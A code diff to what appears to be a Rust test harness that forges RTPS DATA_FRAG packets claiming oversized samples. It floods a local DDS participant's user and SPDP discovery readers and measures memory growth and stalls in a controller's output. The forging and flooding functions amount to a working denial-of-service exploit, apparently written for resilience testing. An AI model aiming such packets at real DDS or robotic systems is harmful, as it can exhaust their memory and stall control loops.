@@ -80,11 +80,23 @@ pub fn find_reader(
 /// DATA_FRAG header and fields (36) + one 1,024-byte fragment.
 pub const FORGED_LEN: usize = 1096;
 
+/// A user-defined writer entity id (never announced by the forger).
+pub const USER_WRITER: [u8; 4] = [0x00, 0x00, 0x01, 0x03];
+/// The built-in SPDP participant writer and reader entity ids (RTPS 9.3.1.3).
+pub const SPDP_WRITER: [u8; 4] = [0x00, 0x01, 0x00, 0xc2];
+pub const SPDP_READER: [u8; 4] = [0x00, 0x01, 0x00, 0xc7];
+
 /// One RTPS datagram holding INFO_DST and a DATA_FRAG (little endian) from
-/// writer `src_prefix`:00000103 (a user-defined writer that was never
-/// announced) to the reader `dst`, sequence number `sn`, claiming a sample of
-/// `claimed` bytes in 1,024-byte fragments and carrying fragment 1.
-pub fn forged_data_frag(src_prefix: [u8; 12], dst: &[u8; 16], sn: u32, claimed: u32) -> Vec<u8> {
+/// writer `src_prefix`:`writer` to the reader `dst`, sequence number `sn`,
+/// claiming a sample of `claimed` bytes in 1,024-byte fragments and carrying
+/// fragment 1.
+pub fn forged_data_frag(
+    src_prefix: [u8; 12],
+    writer: [u8; 4],
+    dst: &[u8; 16],
+    sn: u32,
+    claimed: u32,
+) -> Vec<u8> {
     let mut m = Vec::with_capacity(FORGED_LEN);
     m.extend_from_slice(b"RTPS");
     m.extend_from_slice(&[2, 4]); // protocol version 2.4
@@ -101,7 +113,7 @@ pub fn forged_data_frag(src_prefix: [u8; 12], dst: &[u8; 16], sn: u32, claimed: 
     m.extend_from_slice(&0u16.to_le_bytes()); // extra flags
     m.extend_from_slice(&28u16.to_le_bytes()); // octets to inline QoS
     m.extend_from_slice(&dst[12..16]); // reader entity id
-    m.extend_from_slice(&[0x00, 0x00, 0x01, 0x03]); // writer entity id
+    m.extend_from_slice(&writer); // writer entity id
     m.extend_from_slice(&0i32.to_le_bytes()); // writer SN high
     m.extend_from_slice(&sn.to_le_bytes()); // writer SN low
     m.extend_from_slice(&1u32.to_le_bytes()); // fragment starting number
@@ -130,12 +142,25 @@ pub fn random_prefix() -> [u8; 12] {
     p
 }
 
-/// Send `count` forged DATA_FRAGs (sequence numbers `first_sn..`) claiming
-/// `claimed` bytes each, to every port of `target` on 127.0.0.1. Returns the
-/// number of datagrams sent.
+/// The SPDP (participant discovery) reader of the participant that holds
+/// `user_reader`, at its metatraffic unicast ports: with RustDDS' well-known
+/// ports (spec 9.6.1.1) one below the user unicast port.
+pub fn spdp_reader_of(user_reader: &ReaderTarget) -> ReaderTarget {
+    let mut guid = user_reader.guid;
+    guid[12..].copy_from_slice(&SPDP_READER);
+    ReaderTarget {
+        guid,
+        ports: user_reader.ports.iter().map(|p| p - 1).collect(),
+    }
+}
+
+/// Send `count` forged DATA_FRAGs from `writer` (sequence numbers
+/// `first_sn..`) claiming `claimed` bytes each, to every port of `target` on
+/// 127.0.0.1. Returns the number of datagrams sent.
 pub fn send_forged(
     target: &ReaderTarget,
     src_prefix: [u8; 12],
+    writer: [u8; 4],
     first_sn: u32,
     count: u32,
     claimed: u32,
@@ -143,7 +168,7 @@ pub fn send_forged(
     let sock = UdpSocket::bind("127.0.0.1:0")?;
     let mut sent = 0;
     for k in 0..count {
-        let pkt = forged_data_frag(src_prefix, &target.guid, first_sn + k, claimed);
+        let pkt = forged_data_frag(src_prefix, writer, &target.guid, first_sn + k, claimed);
         for port in &target.ports {
             sock.send_to(&pkt, ("127.0.0.1", *port))?;
             sent += 1;
@@ -218,7 +243,8 @@ pub struct Run {
     pub rss_before: u64,
     pub rss_max: u64,
     pub rss_end: u64,
-    /// gaps of the action stream from 0.5 s before the attack to the end
+    /// gaps of the action stream from 0.5 s before the attack to the end of
+    /// the measurement (which counts as an arrival)
     pub gaps: Vec<f64>,
     /// actions answering the valid observation after the attack began
     pub planned_after: usize,
@@ -244,7 +270,7 @@ impl Run {
             quantile(&self.gaps, 0.5) * 1e3,
             quantile(&self.gaps, 0.99) * 1e3,
             self.max_gap() * 1e3,
-            self.gaps.len() + 1,
+            self.gaps.len(),
             self.planned_after,
         );
         for l in self.stderr.lines().filter(|l| l.starts_with("dds:")) {
@@ -324,6 +350,9 @@ pub fn run_with_attack(
     }
     let t_attack = t_attack.expect("the controller never answered the valid observation");
     let rss_end = rss_bytes(pid).unwrap_or(0);
+    // the end of the window counts as an arrival: a stream that stopped
+    // shows as one long last gap
+    let t_end = Instant::now();
     let mut ctl = ctl;
     let _ = Command::new("kill")
         .args(["-INT", &pid.to_string()])
@@ -337,7 +366,8 @@ pub fn run_with_attack(
     let (st, _out, stderr, _) = wait_bounded(ctl, Duration::from_secs(10));
     assert!(st.success(), "controller exit {st:?}: {stderr}");
     let from = t_attack - Duration::from_millis(500);
-    let window: Vec<Instant> = times.iter().filter(|t| t.0 >= from).map(|t| t.0).collect();
+    let mut window: Vec<Instant> = times.iter().filter(|t| t.0 >= from).map(|t| t.0).collect();
+    window.push(t_end);
     Run {
         rss_before,
         rss_max,
